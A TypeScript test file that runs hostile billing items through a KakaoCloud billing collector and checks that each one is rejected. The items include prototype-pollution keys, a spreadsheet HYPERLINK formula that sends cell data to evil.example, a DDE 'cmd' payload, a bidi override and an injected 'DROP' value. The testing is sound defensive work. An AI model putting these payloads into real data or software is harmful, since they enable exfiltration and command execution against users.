import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { topicNames, type BillingRecord } from '@costwatch/contracts';
import type { EventPublisher } from '@costwatch/kafka';
import { PublishRecordsUseCase } from '../../application/publish-records.use-case';
import type { CollectionWindow } from '../../domain/billing-source';
import { KakaoCloudBillingSource } from './kakaocloud-billing.source';

const DAY = '20261201';
const WINDOW: CollectionWindow = { from: new Date('2026-12-01T00:00:00Z'), to: new Date('2026-12-02T00:00:00Z'), granularity: 'DAILY' };

/** An item as JSON text, so keys such as "__proto__" reach the wire as they are written. */
function item(fields: Record<string, unknown>, extraJson = ''): string {
  const json = JSON.stringify({ meteringDate: DAY, domainId: 'dom-1', projectId: 'proj-a', serviceId: 'vm', serviceName: 'Virtual Machine', cost: '10', ...fields });
  return extraJson === '' ? json : `{${extraJson},${json.slice(1)}`;
}

/** Each hostile item, and the reason it must be refused with (by the source, or by the record policy at publication). */
const HOSTILE: ReadonlyArray<[string, string, RegExp]> = [
  ['__proto__ key', item({ serviceId: 'k1' }, '"__proto__":{"polluted":"yes"}'), /^__proto__: prototype-polluting key "__proto__" is not allowed$/],
  ['constructor key', item({ serviceId: 'k2' }, '"constructor":{"prototype":{"polluted":"yes"}}'), /^constructor: prototype-polluting key "constructor" is not allowed$/],
  ['nested __proto__ key', item({ serviceId: 'k3' }, '"labels":{"__proto__":{"polluted":"yes"}}'), /^labels\.__proto__: prototype-polluting key "__proto__" is not allowed$/],
  ['absurdly long domainId', item({ domainId: 'd'.repeat(10_000) }), /^domainId is 10000 characters long, more than 128$/],
  ['absurdly long serviceName', item({ serviceId: 'k4', serviceName: 'n'.repeat(5_000) }), /^serviceName is 5000 characters long, more than 256$/],
  ['formula serviceName', item({ serviceId: 'k5', serviceName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' }), /^serviceName "=HYPERLINK.*" starts like a spreadsheet formula/],
  ['formula projectId', item({ projectId: "-2+3+cmd|' /C calc'!A0" }), /^projectId ".*" starts like a spreadsheet formula/],
  ['formula serviceId', item({ serviceId: '@SUM(1+1)' }), /^serviceId "@SUM\(1\+1\)" starts like a spreadsheet formula/],
  ['bidi override in serviceName', item({ serviceId: 'k6', serviceName: 'VM\u202Eexe.txt' }), /^serviceName ".*" contains the control character U\+202E$/],
  ['cost "abc"', item({ serviceId: 'k7', cost: 'abc' }), /^cost: invalid amount "abc": not a decimal number$/],
  ['cost "0x1F"', item({ serviceId: 'k8', cost: '0x1F' }), /^cost: invalid amount "0x1F": not a decimal number$/],
  ['cost "NaN"', item({ serviceId: 'k9', cost: 'NaN' }), /^cost: invalid amount "NaN": not a decimal number$/],
  ['cost "1e400"', item({ serviceId: 'k10', cost: '1e400' }), /^cost: invalid amount "1e400": too large$/],
  ['cost 1e308 as a JSON number', item({ serviceId: 'k11', cost: 1e308 }), /^cost: invalid amount "1e\+308": too large$/],
  ['cost true', item({ serviceId: 'k12', cost: true }), /^cost: /],
  ['cost null', item({ serviceId: 'k13', cost: null }), /^cost: /],
  ['cost {}', item({ serviceId: 'k14', cost: {} }), /^cost: /],
  ['meteringDate 9999-12-31', item({ serviceId: 'k15', meteringDate: '99991231' }), /^meteringDate 99991231 is not the requested date 20261201$/],
  ['currency XXX', item({ serviceId: 'k16', currency: 'XXX' }), /^currency: "XXX" is not an ISO 4217 currency/],
  ['currency ZZZ', item({ serviceId: 'k17', currency: 'ZZZ' }), /^currency: "ZZZ" is not an ISO 4217 currency/],
  ['currency "krw; DROP"', item({ serviceId: 'k18', currency: 'krw; DROP' }), /currency: must be an ISO 4217 code/],
];

const GOOD = [item({ serviceId: 'vm', cost: '1000.5' }), item({ serviceId: 'vm', cost: '-0.5' }), item({ serviceId: 'credit-only', serviceName: 'Credit Only', cost: '-5.00' })];

/** A KakaoCloud-style Billing API on 127.0.0.1 that answers every request with one page of `items`. */
class HostileBillingApi {
  items: string[] = [];
  private readonly server: Server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(`{"currency":"KRW","items":[${this.items.join(',')}]}`);
  });

  async start(): Promise<string> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  async stop(): Promise<void> {
    this.server.closeAllConnections();
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }
}

/** A publisher that keeps what it is given: the records published and the dead letters with their headers. */
function recordingPublisher() {
  const published: BillingRecord[] = [];
  const deadLetters: Array<{ location: string; reason: string; raw: unknown }> = [];
  const publisher = {
    publish: (_topic: string, schema: { parse: (e: unknown) => { payload: BillingRecord } }, events: Array<{ event: unknown }>) =>
      Promise.resolve(void published.push(...events.map(({ event }) => schema.parse(event).payload))),
    publishRaw: (_topic: string, message: { value: Buffer; headers: Record<string, string> }) =>
      Promise.resolve(
        void deadLetters.push({ location: message.headers['x-dlq-location'] ?? '', reason: (message.headers['x-dlq-reason'] ?? '').replace(/^invalid: /, ''), raw: JSON.parse(message.value.toString()) as unknown }),
      ),
  } as unknown as EventPublisher;
  return { publisher, published, deadLetters };
}

describe('KakaoCloud collection of hostile items', () => {
  const api = new HostileBillingApi();
  let baseUrl: string;
  beforeAll(async () => {
    baseUrl = await api.start();
  });
  afterAll(() => api.stop());

  async function collect(window: CollectionWindow) {
    const source = new KakaoCloudBillingSource({ baseUrl, credentialId: 'id', credentialSecret: 'secret', retry: { maxAttempts: 1, baseDelayMs: 1, maxDelayMs: 1 }, timeoutMs: 5_000 });
    const { publisher, published, deadLetters } = recordingPublisher();
    const summary = await new PublishRecordsUseCase(publisher, topicNames(''), 'test').collect(source, window);
    return { summary, published, deadLetters };
  }

  it('refuses each hostile item with a clear reason and publishes only the good ones', async () => {
    api.items = [...GOOD, ...HOSTILE.map(([, json]) => json)];

    const { summary, published, deadLetters } = await collect(WINDOW);

    expect(published.map((r) => [r.serviceId, r.amount, r.chargeCategory ?? 'Usage']).sort()).toEqual([
      // Amounts are net of credits: a negative net is a credit surplus, recorded as an Adjustment, never as negative usage.
      ['credit-only', '-5', 'Adjustment'],
      ['vm', '1000', 'Usage'],
    ]);
    expect(summary).toMatchObject({ published: 2, rejected: HOSTILE.length });
    for (const [index, [what, json, reason]] of HOSTILE.entries()) {
      // An item the source refuses is named by its position; a record the policy refuses, by its id.
      const byItem = deadLetters.find((d) => d.location === `date ${DAY} page 1 item ${index + GOOD.length + 1}`);
      const serviceId = (JSON.parse(json) as { serviceId: string }).serviceId;
      const byRecord = deadLetters.find((d) => d.location.startsWith('record ') && (d.raw as BillingRecord).serviceId === serviceId);
      const letter = byItem ?? byRecord;
      if (letter === undefined || !reason.test(letter.reason)) throw new Error(`${what}: expected a dead letter matching ${String(reason)}, got ${JSON.stringify(letter ?? deadLetters.map((d) => d.reason))}`);
    }
    for (const record of published) {
      for (const text of [record.domainId, record.projectId, record.serviceId, record.serviceName]) expect(text).toMatch(/^[\w -]+$/);
      expect(record.currency).toBe('KRW');
    }
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('publishes nothing for a day far in the future, whatever the API answers for it', async () => {
    api.items = [item({ meteringDate: '20990901' })];

    const { summary, published, deadLetters } = await collect({ from: new Date('2099-09-01T00:00:00Z'), to: new Date('2099-09-02T00:00:00Z'), granularity: 'DAILY' });

    expect(published).toEqual([]);
    expect(summary).toMatchObject({ published: 0, rejected: 1 });
    expect(deadLetters[0]?.reason).toMatch(/^periodStart: starts \d+\.\d h after the record was collected \(at most 24 h: RECORD_MAX_LEAD_HOURS\)$/);
  });
});
